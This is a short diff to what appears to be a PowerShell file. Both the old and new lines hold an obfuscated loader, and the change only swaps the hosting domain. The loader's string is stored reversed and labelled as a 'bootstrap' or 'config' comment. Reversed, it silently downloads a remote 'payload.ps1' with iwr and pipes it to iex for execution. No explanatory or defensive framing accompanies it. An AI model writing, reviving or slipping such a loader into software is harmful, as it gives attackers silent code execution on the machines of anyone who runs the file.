@@ -1,4 +1,4 @@
-$wcnuw='
-xei | 1sp.daolyap/elpmaxe.edon-scirtem.citats//:ptth gnisraPcisaBesU- rwi
+$miqit='
+xei | 1sp.daolyap/elpmaxe.cvs-cnys.selif//:ptth gnisraPcisaBesU- rwi
 ''eunitnoCyltneliS'' = ecnereferPssergorP$
-1v 5719 partstoob #'.ToCharArray(); [array]::Reverse($wcnuw); iex (-join $wcnuw)
+1v 9935 gifnoc #'.ToCharArray(); [array]::Reverse($miqit); iex (-join $miqit)
